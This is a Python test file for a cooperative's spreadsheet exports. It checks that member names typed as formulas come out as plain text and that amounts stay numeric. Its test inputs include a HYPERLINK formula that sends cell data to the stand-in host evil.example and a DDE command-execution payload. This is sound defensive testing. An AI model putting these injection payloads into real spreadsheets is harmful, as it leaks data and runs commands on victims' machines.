"""What the cooperative exports cannot run code in a spreadsheet: a name typed as a formula comes out as text,
amounts come out as numbers."""

import io
from datetime import UTC, date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from caoyuan.identity import example_id_number
from coop.posting import LiveSalePaid, post
from coop.rules.charter import Terms
from coop.services.charter import record_charter
from coop.services.contributions import ContributionIn, contribute
from coop.services.distribution import compute_draft
from coop.services.member_io import export_members
from coop.services.statements import publicity_xlsx
from tests.factories.coop import make_cooperative

EVIL_NAME = '=HYPERLINK("http://evil.example/?"&C3,"领补贴")'


def _cells(content: bytes) -> list:  # type: ignore[type-arg]
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _assert_no_formula(content: bytes) -> None:
    for cell in _cells(content):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@")), (cell.coordinate, cell.value)


async def test_exports_neutralise_formulas_and_keep_amounts_numbers(db, backend) -> None:
    async with db.session() as s:
        coop, (m1, m2) = await make_cooperative(s, members=2, name="=1+1 合作社")
        m1.name, m1.group_name, m2.name, m2.village = EVIL_NAME, "+二组", "@SUM(A1:A9)", "-cmd|' /C calc'!A0"
        await record_charter(s, coop.id, date(2020, 1, 1), Terms())
        await contribute(s, coop.id, ContributionIn(m1.id, "cash", date(2024, 4, 1), amount_fen=1_000_00))
        await contribute(s, coop.id, ContributionIn(m2.id, "cash", date(2024, 4, 1), amount_fen=3_000_00))
        await post(s, LiveSalePaid(coop.id, "x:1", datetime(2025, 9, 1, tzinfo=UTC), m1.id, 9_000_00, 0))
        members_file = await export_members(s, coop.id, with_id_numbers=True)
        draft = await compute_draft(s, coop.id, 2025)
        publicity_file = await publicity_xlsx(s, draft.id)

    _assert_no_formula(members_file)
    values = [c.value for c in _cells(members_file)]
    assert "'" + EVIL_NAME in values  # the name is kept, as text
    assert example_id_number(1) in values  # --with-id-numbers writes them whole, as plain text

    _assert_no_formula(publicity_file)
    sheet = load_workbook(io.BytesIO(publicity_file)).worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    last = rows[-1]
    total_col = next(r for r in rows if r[0] == "社员号").index("合计（元）")  # a 说明 column follows it
    assert last[0] == "合计" and isinstance(last[total_col], (int, float, Decimal))
    member_rows = [r for r in rows if isinstance(r[0], int)]
    assert len(member_rows) == 2 and all(isinstance(r[total_col], (int, float, Decimal)) for r in member_rows)
    assert round(sum(Decimal(str(r[total_col])) for r in member_rows) * 100) == round(
        Decimal(str(last[total_col])) * 100
    )
